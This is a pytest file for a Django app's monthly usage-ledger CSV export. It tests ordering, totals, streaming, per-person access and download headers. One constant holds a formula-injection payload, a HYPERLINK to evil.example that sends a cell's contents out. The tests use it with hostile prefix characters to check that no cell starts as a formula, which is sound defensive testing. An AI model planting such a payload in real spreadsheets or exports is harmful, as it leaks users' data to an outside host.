"""The ledger as a spreadsheet: every line of the month, and no formula among them."""

import csv
import io
from datetime import datetime, time, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from asgiref.sync import async_to_sync
from django.test import AsyncClient, Client
from django.urls import reverse
from django.utils import timezone

from generator import lifecycle, usage
from generator.models import LedgerEntry, QuotaAccount, Role, Team, User, Window
from generator.usage import Period, Scope
from generator.views import sheet
from generator.views.spending import spendings
from tests.make import add_member, make_generation, make_user, set_cap
from tests.spent import make_failed, make_made, written_at
from tests.test_sheets import HOSTILE
from tests.views.conftest import SignIn

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def rows(answer: Any) -> list[dict[str, str]]:
    """The lines, by the names of their columns."""
    text = b"".join(answer.streaming_content).decode()
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def loaded(client: Client, team: Team, route: str = "usage_sheet", **query: str) -> Any:
    return client.get(reverse(route, args=[team.slug]), query)


@pytest.fixture
def lead(team: Team, sign_in: SignIn) -> Client:
    """One who steers the team."""
    user = make_user("lead")
    add_member(team, user, Role.OWNER)
    return sign_in(user)


def test_every_line_of_the_month_is_there_oldest_first(
    maker: Client, team: Team, member: User
) -> None:
    made = make_made(member, team, came=1, count=2, prompt="a kettle")
    make_failed(member, team)
    QuotaAccount.objects.of(team, member).grant(-1500, reason="too many", by=member)
    found = rows(loaded(maker, team))
    assert [row["What"] for row in found] == ["held", "settled", "held", "given back", "granted"]
    assert [row["Credits"] for row in found] == ["-80", "40", "-40", "40", "-1500"]
    assert [row["Cost"] for row in found] == ["", "40", "", "", ""]
    settled = found[1]
    assert settled["Time (UTC)"] == f"{made.entries.all()[1].created_at:%Y-%m-%d %H:%M:%S}"
    assert settled["Counts on"] == team.today().isoformat()
    assert settled["Model"] == "GPT Image 2"
    assert settled["Kind"] == "Made from text"
    assert settled["Person"] == "member"
    assert settled["Prompt"] == "a kettle"
    assert settled["Generation"] == str(made.pk)
    assert found[3]["Reason"] == "The provider refused this prompt."
    assert (found[4]["Reason"], found[4]["Granted by"]) == ("too many", "member")


def test_the_lines_of_a_month_add_up_to_its_total_whenever_they_were_written(
    maker: Client, team: Team, member: User
) -> None:
    earlier = timezone.now() - timedelta(days=40)
    made = make_made(member, team, begun_at=earlier)
    # Held at the end of the one month, settled in the next.
    written_at(made.entries.filter(kind="reserve"), earlier, earlier.date())
    make_made(member, team)
    month = Period.month_of(earlier.date())
    found = rows(loaded(maker, team, month=f"{earlier:%Y-%m}"))
    assert len(found) == 2
    total = usage.total(Scope(team, member), month)
    assert -sum(int(row["Credits"]) for row in found) == total.credits == 40


def test_what_is_added_up_is_the_pages_number_where_something_was_given_back(
    maker: Client, lead: Client, team: Team, member: User
) -> None:
    set_cap(team, None, window=Window.MONTH, credits=5_000)
    make_made(member, team, came=1, count=2)
    lifecycle.give_back(make_made(member, team), reason="blurred", by=None)
    make_generation(member, team)
    for client, route, account in (
        (maker, "usage_sheet", QuotaAccount.objects.of(team, member)),
        (lead, "team_usage_sheet", QuotaAccount.objects.pool(team)),
    ):
        account.grant(500, reason="a fair", by=None)
        found = rows(loaded(client, team, route))
        total = usage.total(Scope(team), Period.month_of(team.today()))
        assert sum(int(row["Cost"] or 0) for row in found) == total.credits == 40
        month = next(one for one in spendings(account) if one.window == Window.MONTH)
        assert (month.cap or 0) + sum(int(row["Credits"]) for row in found) == month.left


def test_lines_of_the_months_first_hours_stay_in_it_when_the_team_moves_west(
    maker: Client, team: Team, member: User
) -> None:
    month = Period.month_of(team.today())
    began = datetime.combine(month.first, time(0, 10), tzinfo=ZoneInfo("Pacific/Kiritimati"))
    made = make_made(member, team)
    written_at(made.entries.all(), began, month.first)
    Team.objects.filter(pk=team.pk).update(time_zone="Pacific/Pago_Pago")
    assert len(rows(loaded(maker, team, month=f"{month.first:%Y-%m}"))) == 2


def test_no_line_is_lost_or_doubled_where_one_piece_ends_and_the_next_begins(
    maker: Client, team: Team, member: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    account = QuotaAccount.objects.of(team, member)
    for number in range(10):
        account.grant(1, reason=f"line {number}", by=None)
    same = LedgerEntry.objects.order_by("pk")[2:9]
    written_at(same, same[0].created_at, team.today())
    monkeypatch.setattr(sheet, "AT_ONCE", 3)
    found = rows(loaded(maker, team))
    assert [row["Reason"] for row in found] == [f"line {number}" for number in range(10)]


def test_it_is_a_file_to_keep_and_nothing_a_page_runs(maker: Client, team: Team) -> None:
    answer = loaded(maker, team)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    month = f"{team.today():%Y-%m}"
    assert answer["Content-Disposition"] == (f'attachment; filename="usage-northlight-{month}.csv"')
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in answer["Cache-Control"]


def test_no_prompt_name_or_reason_becomes_a_formula(lead: Client, team: Team, member: User) -> None:
    User.objects.filter(pk=member.pk).update(first_name=FORMULA, last_name="")
    for sign in HOSTILE:
        make_failed(member, team, prompt=f"{sign}{FORMULA}".replace("\x00", ""))
    QuotaAccount.objects.pool(team).grant(5, reason=FORMULA, by=member)
    found = rows(loaded(lead, team, "team_usage_sheet"))
    assert len(found) == 2 * len(HOSTILE) + 1
    for row in found:
        for name in ("Prompt", "Person", "Reason", "Granted by"):
            assert not row[name].strip("\t\r\n \u200b\ufeff\u2028\x0b").startswith(tuple("=+-@＝"))


def test_a_server_that_runs_many_at_once_streams_it_piece_by_piece(
    team: Team, member: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    account = QuotaAccount.objects.of(team, member)
    for number in range(5):
        account.grant(1, reason=f"line {number}", by=None)
    monkeypatch.setattr(sheet, "AT_ONCE", 2)
    client = AsyncClient()
    client.force_login(member)

    async def pieces() -> list[bytes]:
        answer: Any = await client.get(reverse("usage_sheet", args=[team.slug]))
        assert answer.is_async
        return [piece async for piece in answer.streaming_content]

    assert len(async_to_sync(pieces)()) == 4  # the heads, and two lines at a time


def test_a_person_has_their_own_lines_only_and_who_steers_those_of_all(
    maker: Client, lead: Client, team: Team, member: User
) -> None:
    make_made(member, team, prompt="a kettle")
    make_made(User.objects.get(username="lead"), team, prompt="a duke")

    def prompts(answer: Any) -> set[str]:
        return {row["Prompt"] for row in rows(answer)}

    assert prompts(loaded(maker, team)) == {"a kettle"}
    assert prompts(loaded(maker, team, person=str(User.objects.get(username="lead").pk))) == {
        "a kettle"
    }
    assert prompts(loaded(lead, team, "team_usage_sheet")) == {"a kettle", "a duke"}
    one = loaded(lead, team, "team_usage_sheet", person=str(member.pk))
    assert prompts(one) == {"a kettle"}
